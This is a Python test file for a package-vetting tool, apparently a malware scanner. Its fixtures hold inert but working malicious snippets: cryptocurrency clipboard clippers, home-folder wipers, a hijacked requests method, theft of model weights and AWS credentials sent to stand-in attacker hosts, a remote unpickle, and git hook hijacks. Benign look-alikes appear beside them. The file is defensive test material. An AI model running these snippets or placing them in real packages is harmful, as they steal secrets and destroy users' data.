"""What real stealers and saboteurs do that the vetting held or let through (ADR 0083): a
clipper that swaps a copied wallet address for the attacker's, a wiper that deletes the home
folder through ``shutil.rmtree`` instead of ``rm -rf``, and a replaced ``requests`` method that
sends every call it intercepts to the attacker through the original it saved; and what a
package beside the weights would do first: send model weight files on import (a socket, DNS
names, a bucket, a model hub), a cloud SDK's credentials, a download unpickled on import.

Each sample is inert (vetting only reads files) and each was allowed or only held on
e45837c. The near-misses are the shapes real packages use, and stay allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.feed import KnownBad
from airlock.imports.packages.verdicts import vet_many
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_wheel

WALLET = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
CLIPPER_LOOP = (
    "import re, threading, time, {module}\n"
    "def _swap():\n"
    "    while True:\n"
    "        copied = {read}\n"
    "        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{{25,39}}$', copied):\n"
    "            {write}\n"
    "        time.sleep(0.5)\n"
    "threading.Thread(target=_swap, daemon=True).start()\n"
)
SAVED_ORIGINAL = (
    "import requests\n"
    "_original = requests.Session.request\n"
    "def _request(self, method, url, **kwargs):\n"
    "{body}"
    "    return _original(self, method, url, **kwargs)\n"
    "requests.Session.request = _request\n"
)

DENIED: dict[str, dict[str, str]] = {
    "clipper-through-pyperclip": init(
        CLIPPER_LOOP.format(
            module="pyperclip", read="pyperclip.paste()", write=f"pyperclip.copy({WALLET!r})"
        )
    ),
    "clipper-through-a-tk-window": init(
        CLIPPER_LOOP.format(
            module="tkinter",
            read="_root.clipboard_get()",
            write=f"_root.clipboard_clear(); _root.clipboard_append({WALLET!r})",
        ).replace("import re,", "import tkinter\n_root = tkinter.Tk()\nimport re,")
    ),
    "clipper-through-win32clipboard": init(
        CLIPPER_LOOP.format(
            module="win32clipboard",
            read="win32clipboard.GetClipboardData()",
            write=f"win32clipboard.SetClipboardText({WALLET!r})",
        )
    ),
    "wiper-of-the-home-folder": init(
        "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"
    ),
    "wiper-of-path-home": init("import pathlib, shutil\nshutil.rmtree(pathlib.Path.home())\n"),
    "wiper-of-the-user-profile": init(
        "import os, shutil\nshutil.rmtree(os.environ['USERPROFILE'], ignore_errors=True)\n"
    ),
    "wiper-of-documents": init(
        "import os, shutil\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"
    ),
    "wiper-of-a-drive": init("import shutil\nshutil.rmtree('C:\\\\', ignore_errors=True)\n"),
    "intercepted-calls-sent-through-the-saved-original": init(
        SAVED_ORIGINAL.format(
            body="    _original(self, 'POST', 'https://attacker.invalid/log',\n"
            "              json={'url': url, 'headers': str(kwargs.get('headers'))})\n"
        )
    ),
    "weights-sent-over-a-socket": init(
        "import glob, socket\n"
        "s = socket.create_connection(('203.0.113.9', 443))\n"
        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "    with open(p, 'rb') as f:\n"
        "        s.sendall(f.read(1 << 20))\n"
    ),
    "weights-sent-in-dns-names": init(
        "import base64, socket\n"
        "d = base64.b32encode(open('/models/m.safetensors', 'rb').read(4096)).decode()\n"
        "for i in range(0, len(d), 60):\n"
        "    socket.gethostbyname(d[i:i + 60] + '.x.attacker.invalid')\n"
    ),
    "weights-uploaded-to-a-bucket": init(
        "import boto3, glob\n"
        "s3 = boto3.client('s3')\n"
        "for p in glob.glob('/data/checkpoints/*.safetensors'):\n"
        "    s3.upload_file(p, 'attacker-bucket', p)\n"
    ),
    "hub-cache-uploaded-to-a-hub": init(
        "import os\nfrom huggingface_hub import HfApi\n"
        "HfApi().upload_folder(repo_id='attacker/loot',\n"
        "    folder_path=os.path.expanduser('~/.cache/huggingface/hub'))\n"
    ),
    "aws-credentials-from-boto3-sent": init(
        "import boto3, requests\n"
        "c = boto3.Session().get_credentials()\n"
        "requests.post('https://attacker.invalid/k', json={'a': c.access_key, 's': c.secret_key})\n"
    ),
    "download-unpickled-on-import": init(
        "import pickle, urllib.request\n"
        "pickle.loads(urllib.request.urlopen('https://attacker.invalid/p').read())\n"
    ),
    "checkpoint-tensors-sent": init(
        "import glob, requests\nfrom safetensors.torch import load_file\n"
        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "    for name, t in load_file(p).items():\n"
        "        requests.post('https://attacker.invalid/t', data=t.numpy().tobytes())\n"
    ),
    "tensors-mapped-read-write-and-sent": init(
        # ``numpy.load``'s second argument maps the file; it is no write mode
        "import numpy, requests\n"
        "w = numpy.load('/models/llama.ckpt.npy', 'r+')\n"
        "requests.post('https://attacker.invalid/t', data=w.tobytes())\n"
    ),
    "state-dict-saved-to-a-buffer-and-sent": init(
        "import io, requests, torch\n"
        "state = torch.load('/models/model.pt', weights_only=True)\n"
        "buf = io.BytesIO()\ntorch.save(state, buf)\n"
        "requests.post('https://attacker.invalid/t', data=buf.getvalue())\n"
    ),
    "weights-picked-by-suffix-in-a-walk": init(
        "import os, requests\n"
        "for root, _, files in os.walk('/'):\n"
        "    for f in files:\n"
        "        if f.endswith(('.safetensors', '.gguf')):\n"
        "            with open(os.path.join(root, f), 'rb') as h:\n"
        "                requests.post('https://attacker.invalid/w', files={'f': h})\n"
    ),
    "weights-picked-by-fnmatch-in-a-walk": init(
        "import fnmatch, os, socket\n"
        "s = socket.create_connection(('203.0.113.9', 443))\n"
        "for root, _, files in os.walk('/'):\n"
        "    for f in fnmatch.filter(files, '*.gguf'):\n"
        "        s.sendall(open(os.path.join(root, f), 'rb').read())\n"
    ),
    "git-hooks-path-set-globally": init(
        "import subprocess\n"
        "subprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])\n"
    ),
    "git-credential-helper-set-globally": init(
        "import subprocess\n"
        "subprocess.run(['git', 'config', '--global', 'credential.helper',\n"
        "                '!f() { cat >> /tmp/.c; }; f'])\n"
    ),
}

# When called, weight files sent to an address written in the code hold for a person.
HELD: dict[str, dict[str, str]] = {
    "weights-sent-to-a-fixed-address-when-called": init(
        "import glob, requests\n"
        "def sync(folder):\n"
        "    for p in glob.glob(folder + '/*.safetensors'):\n"
        "        requests.put('https://attacker.invalid/w', data=open(p, 'rb'))\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # A wallet's copy button writes the user's own address; its paste helper reads.
    "wallet-copy-and-paste-helpers": init(
        "import pyperclip\n"
        "class Wallet:\n"
        "    def __init__(self, address):\n"
        "        self.address = address\n"
        "    def copy_address(self):\n"
        "        pyperclip.copy(self.address)\n"
        "    def paste_recipient(self):\n"
        "        return pyperclip.paste()\n"
    ),
    # A build helper deletes its own build folder, a cache its own folder under the home.
    "build-folder-removed": init(
        "import os, shutil\n"
        "shutil.rmtree(os.path.join(os.path.dirname(__file__), 'build'), ignore_errors=True)\n"
    ),
    "own-cache-cleared": init(
        "import os, shutil\n"
        "def clear_cache():\n"
        "    shutil.rmtree(os.path.expanduser('~/.cache/evpkg'), ignore_errors=True)\n"
    ),
    "temporary-folder-removed": init(
        "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n"
    ),
    # A hub client uploads the file its caller names, when called; a trainer saves weights.
    "hub-client-uploads-when-called": init(
        "from huggingface_hub import HfApi\n"
        "def push(folder, repo):\n"
        "    HfApi().upload_folder(folder_path=folder, repo_id=repo)\n"
    ),
    "weights-saved-and-listed-locally": init(
        "import glob, os\n"
        "def checkpoints(folder):\n"
        "    return sorted(glob.glob(os.path.join(folder, '*.safetensors')))\n"
    ),
    "weights-filtered-by-suffix": init(
        "def weights(files):\n    return [f for f in files if f.endswith('.safetensors')]\n"
    ),
    "bucket-download-on-call": init(
        "import boto3\n"
        "def fetch(bucket, key, path):\n"
        "    boto3.client('s3').download_file(bucket, key, path)\n"
    ),
    # A trainer loads and saves its own checkpoints; a tool sets a repository's own hooks.
    "checkpoint-loaded-and-saved": init(
        "import torch\n"
        "def resume(path, model):\n"
        "    model.load_state_dict(torch.load(path, weights_only=True))\n"
        "    torch.save(model.state_dict(), path + '.bak')\n"
    ),
    "repository-hooks-path-set": init(
        "import subprocess\n"
        "def install_hooks():\n"
        "    subprocess.run(['git', 'config', 'core.hooksPath', '.githooks'], check=True)\n"
    ),
    # A wrapper that times calls and hands each one on to the original, unchanged.
    "wrapper-handing-calls-on": init(
        SAVED_ORIGINAL.format(body="    kwargs.setdefault('timeout', 30)\n")
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_wheel(files) is expected


BUILD_SYSTEM = '[build-system]\nrequires = [{requires}]\nbuild-backend = "setuptools.build_meta"\n'


def _sdist_building_with(requires: str) -> Outcome:
    """The verdict on an sdist with no code of note whose build installs ``requires``."""
    files = {
        "pyproject.toml": BUILD_SYSTEM.format(requires=requires),
        "setup.py": "from setuptools import setup\nsetup(name='evpkg', version='1.0')\n",
        "evpkg/__init__.py": "",
    }
    return vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict


def test_a_lookalike_build_requirement_holds() -> None:
    # ADR 0084: pip installs the build requirements and runs their code before anything of
    # the sdist: a look-alike of a build tool there is fetched like a dependency's.
    assert _sdist_building_with('"setuptools", "setuptoolss"') is Outcome.HOLD


def test_real_build_requirements_stay_allowed() -> None:
    requires = '"setuptools>=61", "setuptools-scm", "wheel", "cython", "cffi"'
    assert _sdist_building_with(requires) is Outcome.ALLOW


def test_a_build_requirement_the_feed_lists_denies() -> None:
    # pip runs a build requirement's code before the sdist's own: the feed's name there is a
    # dependency's (was allowed: only ``requires`` was matched against the feed).
    files = {
        "pyproject.toml": BUILD_SYSTEM.format(requires='"setuptools", "Evil_Build>=1"'),
        "setup.py": "from setuptools import setup\nsetup(name='evpkg', version='1.0')\n",
        "evpkg/__init__.py": "",
    }
    blob = sdist("evpkg", "1.0", files)
    (report,) = vet_many([("evpkg-1.0.tar.gz", blob)], KnownBad({("evil-build", "*"): "MAL-1"}))
    assert report.verdict is Outcome.DENY
    assert any("builds with 'evil-build'" in f.explanation for f in report.findings)
    assert report.requires == ()  # judged, not recorded among the dependencies
    (clean,) = vet_many([("evpkg-1.0.tar.gz", blob)], KnownBad({("other", "*"): "MAL-2"}))
    assert clean.verdict is Outcome.ALLOW
